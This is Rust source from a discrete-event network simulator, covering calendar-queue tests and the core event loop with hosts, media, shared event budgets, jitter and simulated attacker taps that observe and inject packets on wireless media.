        // calendar queue must reproduce the reference's (at, seq) order
        // exactly, which is what keeps multi-day traces byte-identical.
        use std::collections::BTreeSet;
        let mut queue = CalendarQueue::new();
        let mut reference: BTreeSet<(u64, u64)> = BTreeSet::new();
        let mut rng: u64 = 0x9e37_79b9;
        let mut next = move || {
            // xorshift64*: deterministic, no external RNG needed here.
            rng ^= rng << 13;
            rng ^= rng >> 7;
            rng ^= rng << 17;
            rng
        };
        let mut now = 0u64;
        for (seq, round) in (0..5_000u64).enumerate() {
            let delay = match next() % 7 {
                0 => 0,
                1 => next() % 100,
                2 => next() % (1 << SLOT_SHIFT),
                3 => HORIZON_US - 1 + next() % 3, // straddle the edge
                4 => HORIZON_US * (1 + next() % 4),
                5 => 86_400_000_000 + next() % 1_000, // a day out
                _ => next() % (4 * HORIZON_US),
            };
            let k = key(now + delay, seq as u64);
            queue.push(k);
            reference.insert((k.at.as_micros(), k.seq));
            if round % 3 != 0 {
                let popped = queue.pop().expect("reference is non-empty");
                let expected = reference.pop_first().expect("mirrors the queue");
                assert_eq!((popped.at.as_micros(), popped.seq), expected);
                now = popped.at.as_micros();
            }
        }
        while let Some(popped) = queue.pop() {
            let expected = reference.pop_first().expect("mirrors the queue");
            assert_eq!((popped.at.as_micros(), popped.seq), expected);
        }
        assert!(reference.is_empty());
    }

    #[test]
    fn late_keys_within_the_cursor_bucket_keep_exact_order() {
        // A key whose timestamp is earlier than the cursor bucket's start is
        // clamped into the draining bucket instead of aliasing a future slot:
        // it must pop before everything scheduled after it.
        let mut queue = CalendarQueue::new();
        queue.push(key(5 * (1 << SLOT_SHIFT), 0));
        let first = queue.pop().unwrap();
        assert_eq!(first.seq, 0);
        // Cursor now sits at bucket 5; these at-times fall in earlier bucket
        // spans but arrive after the pop (zero-latency replies at "now").
        queue.push(key(3 * (1 << SLOT_SHIFT), 1));
        queue.push(key(4 * (1 << SLOT_SHIFT) + 7, 2));
        queue.push(key(6 * (1 << SLOT_SHIFT), 3));
        let order: Vec<u64> = std::iter::from_fn(|| queue.pop()).map(|k| k.seq).collect();
        assert_eq!(order, vec![1, 2, 3]);
    }

    #[test]
    fn pool_recycles_slots_through_the_free_list() {
        use crate::addr::IpAddr;
        use crate::packet::{Segment, TcpFlags};
        use crate::seq::SeqNum;

        let mut pool = EventPool::default();
        let body = || EventBody {
            to: HostId(0),
            packet: Packet::new(
                IpAddr::new(10, 0, 0, 1),
                IpAddr::new(10, 0, 0, 2),
                Segment::control(1, 2, SeqNum::new(0), SeqNum::new(0), TcpFlags::SYN),
            ),
        };
        let a = pool.insert(body());
        let b = pool.insert(body());
        assert_ne!(a, b);
        let _ = pool.take(a);
        // The freed slot is reused before the slab grows.
        let c = pool.insert(body());
        assert_eq!(c, a);
        let _ = pool.take(b);
        let _ = pool.take(c);
    }
}
