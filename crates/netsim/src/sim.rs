//! The discrete-event simulator tying hosts, media and attacker taps together.
//!
//! The hot path is built for throughput: hosts and media live in dense
//! `Vec`-backed slabs indexed directly by [`HostId`] / [`MediumId`] (no tree
//! or hash lookup per event), queued events are compact keys in a calendar
//! queue backed by a recycling payload pool (see [`crate::queue`]), and one
//! set of simulator-owned scratch buffers is reused across deliveries so the
//! steady state allocates nothing per event.

use crate::addr::{IpAddr, SocketAddr};
use crate::attacker::{Injection, Tap};
use crate::capture::{NameId, Trace, TraceEvent, TraceMode};
use crate::endpoint::{ConnId, DeliveryResult, Host, HostId, Service};
use crate::error::NetError;
use crate::fasthash::FxHashMap;
use crate::link::{Medium, MediumId, MediumKind};
use crate::packet::{Packet, Segment};
use crate::queue::{CalendarQueue, EventBody, EventKey, EventPool};
use crate::tcp::TcpState;
use crate::time::{Duration, Instant, SimClock};
use bytes::Bytes;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// Default cap on processed events, guarding against runaway feedback loops
/// between a buggy tap and a host. Large batch sweeps can raise the budget
/// per simulator via [`Simulator::with_event_budget`].
pub const DEFAULT_EVENT_BUDGET: u64 = 5_000_000;

/// A *global* event budget shared by any number of simulators (typically the
/// per-AP simulations of one campaign, or every packet-level experiment of a
/// whole report run). Cloning the handle shares the same pool; each processed
/// event on any attached simulator debits it by one.
///
/// When the pool is empty, [`Simulator::step`] reports the same typed
/// [`NetError::EventBudgetExhausted`] as the per-simulator budget — *before*
/// popping the in-flight event — so a caller that [`SharedBudget::refill`]s
/// the pool can resume every attached simulator without losing a packet, and
/// a fleet shard can no longer burn the whole machine silently.
#[derive(Debug, Clone)]
pub struct SharedBudget {
    /// Events left in the pool.
    remaining: std::sync::Arc<std::sync::atomic::AtomicU64>,
    /// Total ever granted (initial budget plus refills), for error messages.
    total: std::sync::Arc<std::sync::atomic::AtomicU64>,
}

impl SharedBudget {
    /// Creates a pool of `budget` events.
    ///
    /// # Panics
    ///
    /// Panics if `budget` is zero.
    pub fn new(budget: u64) -> Self {
        assert!(budget > 0, "shared event budget must be positive");
        SharedBudget {
            remaining: std::sync::Arc::new(std::sync::atomic::AtomicU64::new(budget)),
            total: std::sync::Arc::new(std::sync::atomic::AtomicU64::new(budget)),
        }
    }

    /// Events left in the pool.
    pub fn remaining(&self) -> u64 {
        self.remaining.load(std::sync::atomic::Ordering::Relaxed)
    }

    /// Total events ever granted (initial budget plus refills).
    pub fn total(&self) -> u64 {
        self.total.load(std::sync::atomic::Ordering::Relaxed)
    }

    /// Returns `true` once the pool has been drained to zero.
    pub fn exhausted(&self) -> bool {
        self.remaining() == 0
    }

    /// Adds `additional` events to the pool. Simulators that stopped with
    /// [`NetError::EventBudgetExhausted`] resume exactly where they left off
    /// on their next [`Simulator::step`].
    pub fn refill(&self, additional: u64) {
        self.total.fetch_add(additional, std::sync::atomic::Ordering::Relaxed);
        self.remaining.fetch_add(additional, std::sync::atomic::Ordering::Relaxed);
    }

    /// Debits one event; `false` (and no debit) when the pool is empty.
    fn try_consume(&self) -> bool {
        let mut current = self.remaining.load(std::sync::atomic::Ordering::Relaxed);
        loop {
            if current == 0 {
                return false;
            }
            match self.remaining.compare_exchange_weak(
                current,
                current - 1,
                std::sync::atomic::Ordering::Relaxed,
                std::sync::atomic::Ordering::Relaxed,
            ) {
                Ok(_) => return true,
                Err(observed) => current = observed,
            }
        }
    }
}

struct TapEntry {
    medium: MediumId,
    /// Whether `medium` is observable, precomputed at registration so the
    /// per-packet tap scan never consults the media table.
    observable: bool,
    tap: Box<dyn Tap>,
}

/// One host's slab entry: the host itself plus the per-host state the event
/// loop consults on every delivery, kept inline so `step()` performs zero
/// hash or tree lookups.
struct HostSlot {
    host: Host,
    /// Interned trace name.
    name: NameId,
    /// The medium the host is attached to (cached from the host).
    medium: MediumId,
    /// Pre-handshake send buffers by connection. `step()` checks plain
    /// emptiness before running the flush / eviction passes.
    pending: FxHashMap<ConnId, Vec<Bytes>>,
}

/// Discrete-event network simulator.
///
/// See the crate-level documentation for an end-to-end example.
pub struct Simulator {
    clock: SimClock,
    /// Medium slab; `MediumId(n)` lives at index `n`.
    media: Vec<Medium>,
    /// Host slab; `HostId(n)` lives at index `n`.
    hosts: Vec<HostSlot>,
    ip_index: FxHashMap<IpAddr, HostId>,
    taps: Vec<TapEntry>,
    queue: CalendarQueue,
    /// Payload slab behind the queue's compact keys; slots are recycled
    /// through a free list as events are delivered.
    pool: EventPool,
    trace: Trace,
    foreign_names: FxHashMap<IpAddr, NameId>,
    attacker_name: NameId,
    unknown_name: NameId,
    next_seq: u64,
    events_processed: u64,
    event_budget: u64,
    /// Optional global budget shared with other simulators; `None` (the
    /// default) keeps the hot path free of atomic traffic.
    shared_budget: Option<SharedBudget>,
    /// `true` once any medium has non-zero jitter; with it `false` (the
    /// default) the delivery path skips the jitter draw entirely.
    any_jitter: bool,
    /// Seeded RNG driving optional medium jitter (see
    /// [`Simulator::set_medium_jitter`]). With all jitter at zero — the
    /// default — it is never consulted, so output stays byte-identical to the
    /// jitter-free simulator.
    rng: StdRng,
    // --- reusable scratch, so the steady state allocates nothing per event ---
    delivery_scratch: DeliveryResult,
    chunk_scratch: Vec<Bytes>,
    response_scratch: Vec<Bytes>,
    segment_scratch: Vec<Segment>,
    conn_scratch: Vec<ConnId>,
    injection_scratch: Vec<(MediumId, Injection)>,
}

impl std::fmt::Debug for Simulator {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Simulator")
            .field("now", &self.clock.now())
            .field("hosts", &self.hosts.len())
            .field("media", &self.media.len())
            .field("taps", &self.taps.len())
            .field("queued_events", &self.queue.len())
            .finish()
    }
}

impl Simulator {
    /// Creates a simulator with a deterministic seed.
    pub fn new(seed: u64) -> Self {
        let mut trace = Trace::new();
        let attacker_name = trace.intern("attacker");
        let unknown_name = trace.intern("?");
        Simulator {
            clock: SimClock::new(),
            media: Vec::new(),
            hosts: Vec::new(),
            ip_index: FxHashMap::default(),
            taps: Vec::new(),
            queue: CalendarQueue::new(),
            pool: EventPool::default(),
            trace,
            foreign_names: FxHashMap::default(),
            attacker_name,
            unknown_name,
            next_seq: 0,
            events_processed: 0,
            event_budget: DEFAULT_EVENT_BUDGET,
            shared_budget: None,
            any_jitter: false,
            rng: StdRng::seed_from_u64(seed),
            delivery_scratch: DeliveryResult::default(),
            chunk_scratch: Vec::new(),
            response_scratch: Vec::new(),
            segment_scratch: Vec::new(),
            conn_scratch: Vec::new(),
            injection_scratch: Vec::new(),
        }
    }

    /// Sets the event budget (builder form): the maximum number of events one
    /// run may process before the simulator assumes a feedback loop and
    /// reports [`NetError::EventBudgetExhausted`]. Defaults to
    /// [`DEFAULT_EVENT_BUDGET`]; long batch sweeps can raise it deliberately.
    #[must_use]
    pub fn with_event_budget(mut self, budget: u64) -> Self {
        self.set_event_budget(budget);
        self
    }

    /// Sets the event budget on an existing simulator.
    pub fn set_event_budget(&mut self, budget: u64) {
        assert!(budget > 0, "event budget must be positive");
        self.event_budget = budget;
    }

    /// The configured event budget.
    pub fn event_budget(&self) -> u64 {
        self.event_budget
    }

    /// Attaches a [`SharedBudget`] (builder form): every processed event also
    /// debits the shared pool, and an empty pool stops the run with the typed
    /// [`NetError::EventBudgetExhausted`] — before the in-flight event is
    /// popped, so refilling the pool resumes the run losslessly.
    #[must_use]
    pub fn with_shared_budget(mut self, budget: SharedBudget) -> Self {
        self.set_shared_budget(budget);
        self
    }

    /// Attaches a [`SharedBudget`] on an existing simulator.
    pub fn set_shared_budget(&mut self, budget: SharedBudget) {
        self.shared_budget = Some(budget);
    }

    /// The attached shared budget, if any.
    pub fn shared_budget(&self) -> Option<&SharedBudget> {
        self.shared_budget.as_ref()
    }

    /// Sets the trace recorder mode (builder form). [`TraceMode::Full`] (the
    /// default) retains every transmission; [`TraceMode::Ring`] bounds the
    /// trace to the most recent *n*; [`TraceMode::SummaryOnly`] retains
    /// nothing but the running counters.
    #[must_use]
    pub fn with_trace_mode(mut self, mode: TraceMode) -> Self {
        self.set_trace_mode(mode);
        self
    }

    /// Sets the trace recorder mode on an existing simulator. Retained events
    /// the new mode would not hold are dropped (and counted).
    pub fn set_trace_mode(&mut self, mode: TraceMode) {
        self.trace.set_mode(mode);
    }

    /// Current simulated time.
    pub fn now(&self) -> Instant {
        self.clock.now()
    }

    /// Adds a transmission medium with the given one-way latency in
    /// microseconds and returns its id.
    pub fn add_medium(&mut self, kind: MediumKind, latency_micros: u64) -> MediumId {
        let id = MediumId(self.media.len() as u64);
        self.media.push(Medium::new(id, kind, Duration::from_micros(latency_micros)));
        id
    }

    fn medium(&self, id: MediumId) -> Option<&Medium> {
        self.media.get(id.0 as usize)
    }

    /// Enables per-packet jitter on a medium: every traversal draws an extra
    /// delay uniformly from `[0, jitter]` using the simulator's seeded RNG.
    /// The default is zero (no jitter, no RNG draws), which keeps delivery
    /// times byte-identical to the jitter-free simulator; with jitter enabled,
    /// two simulators built with the same seed and the same workload still
    /// produce identical traces.
    ///
    /// # Panics
    ///
    /// Panics if the medium does not exist.
    pub fn set_medium_jitter(&mut self, medium: MediumId, jitter: Duration) {
        self.media
            .get_mut(medium.0 as usize)
            .expect("unknown medium id")
            .jitter = jitter;
        self.any_jitter = self.media.iter().any(|m| m.jitter > Duration::ZERO);
    }

    /// Adds a host attached to `medium` and returns its id.
    ///
    /// # Panics
    ///
    /// Panics if another host already uses `ip` or the medium does not exist.
    pub fn add_host(&mut self, name: &str, ip: IpAddr, medium: MediumId) -> HostId {
        assert!(
            (medium.0 as usize) < self.media.len(),
            "unknown medium {medium:?}"
        );
        assert!(
            !self.ip_index.contains_key(&ip),
            "duplicate host IP address {ip}"
        );
        let id = HostId(self.hosts.len() as u64);
        let name_id = self.trace.intern(name);
        self.hosts.push(HostSlot {
            host: Host::new(id, name, ip, medium),
            name: name_id,
            medium,
            pending: FxHashMap::default(),
        });
        self.ip_index.insert(ip, id);
        id
    }

    fn slot(&self, id: HostId) -> Option<&HostSlot> {
        self.hosts.get(id.0 as usize)
    }

    /// Returns a reference to a host.
    ///
    /// # Panics
    ///
    /// Panics if the host does not exist.
    pub fn host(&self, id: HostId) -> &Host {
        &self.slot(id).expect("unknown host id").host
    }

    /// Returns a mutable reference to a host.
    ///
    /// # Panics
    ///
    /// Panics if the host does not exist.
    pub fn host_mut(&mut self, id: HostId) -> &mut Host {
        &mut self.hosts.get_mut(id.0 as usize).expect("unknown host id").host
    }

    /// Starts a host listening on a TCP port.
    pub fn listen(&mut self, host: HostId, port: u16) {
        self.host_mut(host).listen(port);
    }

    /// Attaches an application service (server behaviour) to a host.
    pub fn set_service(&mut self, host: HostId, service: Box<dyn Service>) {
        self.host_mut(host).set_service(service);
    }

    /// Registers an attacker tap on a medium. Taps only observe traffic on
    /// observable (shared wireless) media.
    pub fn add_tap(&mut self, medium: MediumId, tap: Box<dyn Tap>) {
        let observable = self.medium(medium).map(Medium::observable).unwrap_or(false);
        self.taps.push(TapEntry {
            medium,
            observable,
            tap,
        });
    }

    /// Opens a TCP connection from `client` to `server` on `port`.
    ///
    /// The SYN is scheduled immediately; the handshake completes as the
    /// simulation runs. Data passed to [`Simulator::send`] before the
    /// handshake finishes is buffered and flushed once established.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::UnknownHost`] if either host id is invalid.
    pub fn connect(&mut self, client: HostId, server: HostId, port: u16) -> Result<ConnId, NetError> {
        let server_ip = self
            .slot(server)
            .ok_or_else(|| NetError::UnknownHost(format!("{server:?}")))?
            .host
            .ip();
        self.connect_addr(client, SocketAddr::new(server_ip, port))
    }

    /// Opens a TCP connection from `client` to an arbitrary remote address.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::UnknownHost`] if the client id is invalid.
    pub fn connect_addr(&mut self, client: HostId, remote: SocketAddr) -> Result<ConnId, NetError> {
        let host = &mut self
            .hosts
            .get_mut(client.0 as usize)
            .ok_or_else(|| NetError::UnknownHost(format!("{client:?}")))?
            .host;
        let client_ip = host.ip();
        let (conn, syn) = host.connect(remote);
        let packet = Packet::new(client_ip, remote.ip, syn);
        self.transmit(client, packet, false, Duration::ZERO);
        Ok(conn)
    }

    /// Sends application data on a connection, buffering it if the handshake
    /// has not completed yet.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::UnknownHost`] / [`NetError::UnknownConnection`] for
    /// invalid identifiers.
    pub fn send(&mut self, host: HostId, conn: ConnId, data: &[u8]) -> Result<(), NetError> {
        self.send_bytes(host, conn, Bytes::copy_from_slice(data))
    }

    /// [`Simulator::send`] without the copy: the buffer is shared (not cloned)
    /// across MSS segmentation, the packet trace and delivery.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::UnknownHost`] / [`NetError::UnknownConnection`] for
    /// invalid identifiers.
    pub fn send_bytes(&mut self, host: HostId, conn: ConnId, data: Bytes) -> Result<(), NetError> {
        let slot = self
            .hosts
            .get_mut(host.0 as usize)
            .ok_or_else(|| NetError::UnknownHost(format!("{host:?}")))?;
        let state = slot
            .host
            .connection_state(conn)
            .ok_or(NetError::UnknownConnection(conn.0))?;
        // A dead connection can never flush a buffer: reject instead of
        // buffering into the pending map, where (with no further events for
        // the host) nothing would ever evict it.
        if matches!(state, TcpState::Closed | TcpState::Reset) {
            return Err(NetError::InvalidState {
                reason: format!("cannot send in state {state:?}"),
            });
        }
        if slot.host.is_established(conn) {
            let remote = slot.host.connection_remote(conn).expect("established has remote");
            let ip = slot.host.ip();
            let mut segments = std::mem::take(&mut self.segment_scratch);
            segments.clear();
            if let Err(error) = slot.host.send_bytes_into(conn, data, &mut segments) {
                self.segment_scratch = segments;
                return Err(error);
            }
            for seg in segments.drain(..) {
                let packet = Packet::new(ip, remote.ip, seg);
                self.transmit(host, packet, false, Duration::ZERO);
            }
            self.segment_scratch = segments;
        } else {
            slot.pending.entry(conn).or_default().push(data);
        }
        Ok(())
    }

    /// Closes a connection (sends FIN).
    ///
    /// # Errors
    ///
    /// Propagates host/connection lookup and state errors.
    pub fn close(&mut self, host: HostId, conn: ConnId) -> Result<(), NetError> {
        let h = &mut self
            .hosts
            .get_mut(host.0 as usize)
            .ok_or_else(|| NetError::UnknownHost(format!("{host:?}")))?
            .host;
        let remote = h
            .connection_remote(conn)
            .ok_or(NetError::UnknownConnection(conn.0))?;
        let ip = h.ip();
        let fin = h.close(conn)?;
        let packet = Packet::new(ip, remote.ip, fin);
        self.transmit(host, packet, false, Duration::ZERO);
        Ok(())
    }

    /// Application bytes received so far on a connection.
    pub fn received(&self, host: HostId, conn: ConnId) -> Bytes {
        Bytes::copy_from_slice(self.host(host).received(conn))
    }

    /// Connection ids present on a host (in creation order).
    pub fn connections(&self, host: HostId) -> Vec<ConnId> {
        self.host(host).connection_ids()
    }

    /// The packet trace recorded so far.
    pub fn trace(&self) -> &Trace {
        &self.trace
    }

    /// Takes ownership of the recorded trace, leaving an empty one (same
    /// recorder mode and name table) behind.
    pub fn take_trace(&mut self) -> Trace {
        let fresh = self.trace.fresh_like();
        std::mem::replace(&mut self.trace, fresh)
    }

    /// Number of events processed so far.
    pub fn events_processed(&self) -> u64 {
        self.events_processed
    }

    /// Number of pre-handshake send buffers currently held. Buffers are
    /// flushed on establishment and evicted (with a note in the trace
    /// summary) when their connection closes or resets first.
    pub fn pending_send_buffers(&self) -> usize {
        self.hosts.iter().map(|slot| slot.pending.len()).sum()
    }

    fn path_latency(&self, from_medium: MediumId, to_medium: MediumId) -> Duration {
        let from = self.medium(from_medium).map(|m| m.latency).unwrap_or(Duration::ZERO);
        if from_medium == to_medium {
            from
        } else {
            let to = self.medium(to_medium).map(|m| m.latency).unwrap_or(Duration::ZERO);
            from.saturating_add(to)
        }
    }

    /// Draws the jitter for one traversal of the given media pair. With all
    /// jitter configured to zero (the default) this never touches the RNG.
    fn path_jitter(&mut self, from_medium: Option<MediumId>, to_medium: Option<MediumId>) -> Duration {
        let jitter_of = |media: &[Medium], id: Option<MediumId>| {
            id.and_then(|id| media.get(id.0 as usize))
                .map(|m| m.jitter.as_micros())
                .unwrap_or(0)
        };
        let total = match (from_medium, to_medium) {
            (Some(a), Some(b)) if a == b => jitter_of(&self.media, Some(a)),
            (a, b) => jitter_of(&self.media, a) + jitter_of(&self.media, b),
        };
        if total == 0 {
            Duration::ZERO
        } else {
            Duration::from_micros(self.rng.gen_range(0..=total))
        }
    }

    /// Interned trace name for an address outside the simulation: the textual
    /// address, interned on first use.
    fn foreign_name(&mut self, ip: IpAddr) -> NameId {
        if let Some(&id) = self.foreign_names.get(&ip) {
            return id;
        }
        let id = self.trace.intern(&ip.to_string());
        self.foreign_names.insert(ip, id);
        id
    }

    /// Records one transmission in the trace. In [`TraceMode::SummaryOnly`]
    /// only the counters move — no event (and no packet clone) is created.
    fn record(&mut self, sent_at: Instant, delivered_at: Instant, from: NameId, to: NameId, injected: bool, packet: &Packet) {
        if self.trace.retains_events() {
            self.trace.push(TraceEvent {
                sent_at,
                delivered_at,
                from,
                to,
                injected,
                packet: packet.clone(),
            });
        } else {
            self.trace.note(injected, packet.segment.payload.len());
        }
    }

    /// Moves a packet into the event pool and queues its delivery, assigning
    /// the next global sequence number. Packets addressed outside the
    /// simulation are dropped (they were already recorded).
    fn enqueue(&mut self, dst: Option<HostId>, at: Instant, packet: Packet) {
        if let Some(to) = dst {
            let seq = self.next_seq;
            self.next_seq += 1;
            let slot = self.pool.insert(EventBody { to, packet });
            self.queue.push(EventKey { at, seq, slot });
        }
    }

    /// Schedules delivery of a packet emitted by `from`, notifying taps.
    fn transmit(&mut self, from: HostId, packet: Packet, injected: bool, extra_delay: Duration) {
        let now = self.clock.now();
        let (from_medium, from_name) = match self.slot(from) {
            Some(slot) => (Some(slot.medium), slot.name),
            None => (None, self.unknown_name),
        };
        let dst_host = self.ip_index.get(&packet.dst_ip).copied();
        let (to_medium, to_name) = match dst_host.and_then(|id| self.slot(id)) {
            Some(slot) => (Some(slot.medium), Some(slot.name)),
            None => (None, None),
        };
        let to_name = match to_name {
            Some(name) => name,
            None => self.foreign_name(packet.dst_ip),
        };

        let latency = match (from_medium, to_medium) {
            (Some(a), Some(b)) => self.path_latency(a, b),
            (Some(a), None) => self.medium(a).map(|m| m.latency).unwrap_or(Duration::ZERO),
            _ => Duration::ZERO,
        };
        let jitter = if self.any_jitter {
            self.path_jitter(from_medium, to_medium)
        } else {
            Duration::ZERO
        };
        let deliver_at = now + extra_delay + latency + jitter;

        self.record(now + extra_delay, deliver_at, from_name, to_name, injected, &packet);

        // Attacker taps observe genuine traffic on observable media. Injected
        // packets are not re-observed, which both matches reality (the
        // attacker knows its own traffic) and prevents feedback loops. With no
        // taps registered — the population-scale common case — the scan is
        // skipped outright; otherwise requested injections collect into a
        // reusable scratch buffer.
        if !injected && !self.taps.is_empty() {
            let mut pending_injections = std::mem::take(&mut self.injection_scratch);
            for entry in &mut self.taps {
                if !entry.observable {
                    continue;
                }
                let on_path =
                    Some(entry.medium) == from_medium || Some(entry.medium) == to_medium;
                if !on_path {
                    continue;
                }
                for injection in entry.tap.observe(&packet, now) {
                    pending_injections.push((entry.medium, injection));
                }
            }
            // The observed packet queues first, then its injections, so
            // sequence numbers match the pre-calendar-queue simulator exactly.
            self.enqueue(dst_host, deliver_at, packet);
            for (tap_medium, injection) in pending_injections.drain(..) {
                self.schedule_injection(tap_medium, injection);
            }
            self.injection_scratch = pending_injections;
        } else {
            self.enqueue(dst_host, deliver_at, packet);
        }
    }

    /// Schedules delivery of an attacker-injected packet from a tap attached
    /// to `tap_medium`.
    fn schedule_injection(&mut self, tap_medium: MediumId, injection: Injection) {
        let now = self.clock.now();
        let dst_host = self.ip_index.get(&injection.packet.dst_ip).copied();
        let (to_medium, to_name) = match dst_host.and_then(|id| self.slot(id)) {
            Some(slot) => (Some(slot.medium), Some(slot.name)),
            None => (None, None),
        };
        let to_medium = to_medium.unwrap_or(tap_medium);
        let latency = self.path_latency(tap_medium, to_medium);
        let jitter = if self.any_jitter {
            self.path_jitter(Some(tap_medium), Some(to_medium))
        } else {
            Duration::ZERO
        };
        let deliver_at = now + injection.delay + latency + jitter;

        let to_name = match to_name {
            Some(name) => name,
            None => self.foreign_name(injection.packet.dst_ip),
        };
        let attacker = self.attacker_name;
        self.record(now + injection.delay, deliver_at, attacker, to_name, true, &injection.packet);
        self.enqueue(dst_host, deliver_at, injection.packet);
    }

    /// Processes a single queued event. Returns `Ok(false)` if the queue is
    /// empty.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::EventBudgetExhausted`] once the run has consumed
    /// its event budget — typically a feedback loop between a tap and a host.
    /// The error is typed (not a panic) so batch sweeps can fail one scenario
    /// without aborting their siblings.
    pub fn step(&mut self) -> Result<bool, NetError> {
        if self.queue.is_empty() {
            return Ok(false);
        }
        // Budget checks before the pop: the in-flight event stays queued, so a
        // caller that raises (or refills) the budget can resume without losing
        // packets.
        if self.events_processed >= self.event_budget {
            return Err(NetError::EventBudgetExhausted {
                budget: self.event_budget,
            });
        }
        if let Some(shared) = &self.shared_budget {
            if !shared.try_consume() {
                return Err(NetError::EventBudgetExhausted {
                    budget: shared.total(),
                });
            }
        }
        let key = self.queue.pop().expect("checked non-empty above");
        let EventBody { to, packet } = self.pool.take(key.slot);
        self.events_processed += 1;
        self.clock.advance_to(key.at);

        let index = to.0 as usize;
        if index >= self.hosts.len() {
            return Ok(true);
        }
        let mut delivery = std::mem::take(&mut self.delivery_scratch);
        let host_ip = self.hosts[index].host.ip();
        self.hosts[index].host.deliver_into(&packet, &mut delivery);

        // Protocol responses (SYN-ACK, ACK, RST) go back to the packet source.
        for seg in delivery.responses.drain(..) {
            let response = Packet::new(host_ip, packet.src_ip, seg);
            self.transmit(to, response, false, Duration::ZERO);
        }

        // Run the attached service for any connection with fresh data.
        for conn in delivery.data_ready.drain(..) {
            self.run_service(to, conn);
        }
        self.delivery_scratch = delivery;

        // Flush sends that were waiting for the handshake to finish, then
        // evict buffers whose connection died before establishing. The slab's
        // pending map makes the no-pending case — every event, in steady
        // state — a single emptiness check.
        if !self.hosts[index].pending.is_empty() {
            self.flush_pending(to);
            self.evict_dead_pending(to);
        }
        Ok(true)
    }

    fn run_service(&mut self, host_id: HostId, conn: ConnId) {
        let index = host_id.0 as usize;
        // The freshly arrived bytes travel as shared chunks in a
        // simulator-owned scratch vector: no per-delivery reassembly buffer.
        let mut chunks = std::mem::take(&mut self.chunk_scratch);
        let mut responses = std::mem::take(&mut self.response_scratch);
        chunks.clear();
        responses.clear();
        let restore = |sim: &mut Simulator, chunks: Vec<Bytes>, responses: Vec<Bytes>| {
            sim.chunk_scratch = chunks;
            sim.response_scratch = responses;
        };
        let (delay, remote, ip) = {
            let Some(slot) = self.hosts.get_mut(index) else {
                restore(self, chunks, responses);
                return;
            };
            if slot.host.service_mut().is_none() {
                restore(self, chunks, responses);
                return;
            }
            slot.host.read_new_bytes(conn, &mut chunks);
            if chunks.is_empty() {
                restore(self, chunks, responses);
                return;
            }
            let delay = {
                let service = slot.host.service_mut().expect("checked above");
                service.on_data_into(conn, &chunks, &mut responses);
                service.processing_delay()
            };
            let Some(remote) = slot.host.connection_remote(conn) else {
                restore(self, chunks, responses);
                return;
            };
            (delay, remote, slot.host.ip())
        };
        chunks.clear();
        self.chunk_scratch = chunks;

        let mut segments = std::mem::take(&mut self.segment_scratch);
        for chunk in responses.drain(..) {
            segments.clear();
            if self.hosts[index].host.send_bytes_into(conn, chunk, &mut segments).is_err() {
                break;
            }
            for seg in segments.drain(..) {
                let pkt = Packet::new(ip, remote.ip, seg);
                self.transmit(host_id, pkt, false, delay);
            }
        }
        self.segment_scratch = segments;
        responses.clear();
        self.response_scratch = responses;
    }

    fn flush_pending(&mut self, host_id: HostId) {
        let index = host_id.0 as usize;
        let mut ready = std::mem::take(&mut self.conn_scratch);
        ready.clear();
        let slot = &self.hosts[index];
        ready.extend(slot.pending.keys().filter(|c| slot.host.is_established(**c)));
        // Deterministic flush order regardless of hash-map iteration order.
        ready.sort_unstable();
        for &conn in &ready {
            let Some(chunks) = self.hosts[index].pending.remove(&conn) else {
                continue;
            };
            for chunk in chunks {
                // Established now, so this sends immediately.
                let _ = self.send_bytes(host_id, conn, chunk);
            }
        }
        ready.clear();
        self.conn_scratch = ready;
    }

    /// Evicts pre-handshake send buffers whose connection on `host_id` was
    /// reset or closed without ever establishing, so a failed connection can
    /// never leak its buffered data for the simulator's lifetime. The dropped
    /// volume is surfaced in the trace summary.
    fn evict_dead_pending(&mut self, host_id: HostId) {
        let index = host_id.0 as usize;
        let mut dead = std::mem::take(&mut self.conn_scratch);
        dead.clear();
        let slot = &self.hosts[index];
        dead.extend(slot.pending.keys().filter(|c| {
            matches!(
                slot.host.connection_state(**c),
                None | Some(TcpState::Closed) | Some(TcpState::Reset)
            )
        }));
        dead.sort_unstable();
        for &conn in &dead {
            if let Some(chunks) = self.hosts[index].pending.remove(&conn) {
                let bytes: usize = chunks.iter().map(Bytes::len).sum();
                self.trace
                    .note_dropped_pending(chunks.len() as u64, bytes as u64);
            }
        }
        dead.clear();
        self.conn_scratch = dead;
    }

    /// Runs the simulation until no events remain.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::EventBudgetExhausted`] if the event budget runs out
    /// before the queue drains.
    pub fn run_until_idle(&mut self) -> Result<(), NetError> {
        while self.step()? {}
        Ok(())
    }

    /// Runs the simulation until the clock reaches `deadline` or the queue
    /// drains, whichever comes first.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::EventBudgetExhausted`] if the event budget runs out
    /// first.
    pub fn run_until(&mut self, deadline: Instant) -> Result<(), NetError> {
        while let Some(at) = self.queue.peek_at() {
            if at > deadline {
                break;
            }
            self.step()?;
        }
        if self.clock.now() < deadline {
            self.clock.advance_to(deadline);
        }
        Ok(())
    }

    /// Runs the simulation for an additional `duration` of simulated time.
    ///
    /// # Errors
    ///
    /// Returns [`NetError::EventBudgetExhausted`] if the event budget runs out
    /// first.
    pub fn run_for(&mut self, duration: Duration) -> Result<(), NetError> {
        let deadline = self.clock.now() + duration;
        self.run_until(deadline)
    }
}

/// A convenience service that answers every request chunk with a fixed byte
/// string. Used by tests and by the cache-eviction junk-object server.
///
/// The response is held as [`Bytes`]: every reply shares the one buffer with
/// the segments on the wire, the packet trace and the receiver.
#[derive(Debug, Clone)]
pub struct FixedResponder {
    response: Bytes,
    delay: Duration,
}

impl FixedResponder {
    /// Creates a responder that always replies with `response` after `delay`.
    pub fn new(response: impl Into<Bytes>, delay: Duration) -> Self {
        FixedResponder {
            response: response.into(),
            delay,
        }
    }
}

impl Service for FixedResponder {
    fn on_data(&mut self, _conn: ConnId, _data: &[Bytes]) -> Vec<Bytes> {
        vec![self.response.clone()]
    }

    fn on_data_into(&mut self, _conn: ConnId, _data: &[Bytes], out: &mut Vec<Bytes>) {
        out.push(self.response.clone());
    }

